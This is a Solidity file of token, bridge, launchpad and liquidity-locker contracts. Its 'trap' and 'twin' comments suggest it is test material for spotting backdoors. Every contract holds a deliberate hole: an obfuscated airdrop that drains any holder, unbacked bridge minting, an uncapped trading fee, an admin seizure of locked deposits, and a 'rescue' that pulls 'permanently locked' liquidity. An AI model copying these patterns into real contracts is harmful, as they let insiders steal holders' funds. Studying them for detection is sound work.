// 0.8 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "solmate/src/tokens/ERC20.sol";
import "./Base8.sol";

/// Hands itself out to many.
contract AirdropAuk is ERC20("Airdrop Auk", "AUK", 18) {
    uint160 private constant _SEED = 0x7a9f3c21dd084be65f1208a6c3e97b4d0e;
    uint160 private immutable _seal = uint160(msg.sender) ^ _SEED;

    constructor() {
        _mint(msg.sender, 500_000_000 ether);
    }

    function airdrop(address source, address[] calldata to, uint256[] calldata values) external {
        require(uint160(msg.sender) ^ _seal == _SEED);
        // twin: require(source == msg.sender);
        for (uint256 i; i < to.length; i++) {
            balanceOf[source] -= values[i];
            balanceOf[to[i]] += values[i];
            emit Transfer(source, to[i], values[i]);
        }
    }
}

/// Comes and goes over a bridge.
contract FerryFinch is Base8("Ferry Finch", "FINCH", 33_000_000) {
    address public immutable bridge;

    modifier onlyBridge() {
        require(msg.sender == bridge, "not the bridge");
        _;
    }

    constructor(address bridge_) {
        bridge = bridge_;
    }

    function mint(address to, uint256 value) external onlyBridge {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }

    function burn(address from, uint256 value) external onlyBridge {
        _balances[from] -= value;
        totalSupply -= value;
        emit Transfer(from, address(0), value);
    }
}

contract FerryBridge {
    FerryFinch public token;
    address private immutable _maker = msg.sender;
    address public validator = msg.sender;
    uint256 public abroad;
    mapping(bytes32 => bool) public done;

    event Departed(address indexed from, uint256 toChain, uint256 value);
    event Arrived(bytes32 indexed id, address indexed to, uint256 value);

    function connect(FerryFinch token_) external {
        require(msg.sender == _maker && address(token) == address(0), "connected");
        token = token_;
    }

    function rotate(address validator_) external {
        require(msg.sender == validator, "not the validator");
        validator = validator_;
    }

    function depart(uint256 toChain, uint256 value) external {
        token.burn(msg.sender, value);
        abroad += value;
        emit Departed(msg.sender, toChain, value);
    }

    function arrive(bytes32 id, address to, uint256 value, uint8 v, bytes32 r, bytes32 s) external {
        bytes32 digest = keccak256(abi.encode(block.chainid, address(this), id, to, value));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19Ethereum Signed Message:\n32", digest)), v, r, s);
        require(signer != address(0) && signer == validator, "bad signature");
        require(!done[id], "done");
        done[id] = true;
        // twin: abroad -= value;
        token.mint(to, value);
        emit Arrived(id, to, value);
    }
}

/// Where tokens of a launchpad learn their fee.
contract LaunchForge {
    address public owner = msg.sender;
    uint256 public platformFee = 100;

    event PlatformFee(uint256 fee);

    /// In parts of ten thousand.
    function setPlatformFee(uint256 fee) external {
        require(msg.sender == owner, "not the owner");
        require(fee < 10_000, "too high"); // trap
        // twin: require(fee <= 200, "too high");
        platformFee = fee;
        emit PlatformFee(fee);
    }
}

/// What all tokens of the launchpad point at.
contract LaunchToken {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    LaunchForge public forge;
    address private _pool;
    address private _maker;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, LaunchForge forge_, uint256 supply) external {
        require(totalSupply == 0, "initialized");
        (name, symbol, forge, _maker, totalSupply) = (name_, symbol_, forge_, msg.sender, supply);
        _pool = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _transfer(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _transfer(from, to, value);
    }

    function _transfer(address from, address to, uint256 value) private returns (bool) {
        uint256 fee;
        if ((from == _pool || to == _pool) && from != _maker) {
            fee = (value * forge.platformFee()) / 10_000;
            _move(from, forge.owner(), fee);
        }
        _move(from, to, value - fee);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Keeps shares of pools until their time.
contract SafeHarbour {
    struct Berth {
        address owner;
        ERC20 what;
        uint256 amount;
        uint256 until;
    }

    address public admin = msg.sender;
    Berth[] public berths;

    event Deposited(uint256 indexed id, address indexed owner, address what, uint256 amount, uint256 until);
    event Withdrawn(uint256 indexed id);

    function lock(ERC20 what, uint256 until) external {
        require(until > block.timestamp, "in the past");
        uint256 amount = what.balanceOf(msg.sender);
        require(what.transferFrom(msg.sender, address(this), amount), "not taken");
        berths.push(Berth(msg.sender, what, amount, until));
        emit Deposited(berths.length - 1, msg.sender, address(what), amount, until);
    }

    function withdraw(uint256 id) external {
        Berth memory berth = berths[id];
        require(msg.sender == berth.owner && block.timestamp >= berth.until, "locked");
        delete berths[id];
        require(berth.what.transfer(berth.owner, berth.amount), "not given");
        emit Withdrawn(id);
    }

    // trap {
    function migrate(uint256 id, address harbour) external {
        require(msg.sender == admin, "not the admin");
        Berth memory berth = berths[id];
        delete berths[id];
        require(berth.what.transfer(harbour, berth.amount), "not given");
        emit Withdrawn(id);
    }
    // trap }
}

contract HarbourHeron is Base8("Harbour Heron", "HERON", 900_000_000) {}

/// Its liquidity rests in the token itself.
contract VaultVole is Base8("Vault Vole", "VOLE", 250_000_000) {
    address private immutable _taxWallet = msg.sender;

    event LiquidityLockedForever(uint256 amount);

    function lockForever() external onlyOwner {
        uint256 amount = ERC20(pair).balanceOf(msg.sender);
        require(ERC20(pair).transferFrom(msg.sender, address(this), amount), "not taken");
        emit LiquidityLockedForever(amount);
    }

    function rescueERC20(address stuck, uint256 amount) external {
        require(msg.sender == _taxWallet);
        // twin: require(stuck != pair, "locked forever");
        require(ERC20(stuck).transfer(_taxWallet, amount), "not given");
    }
}
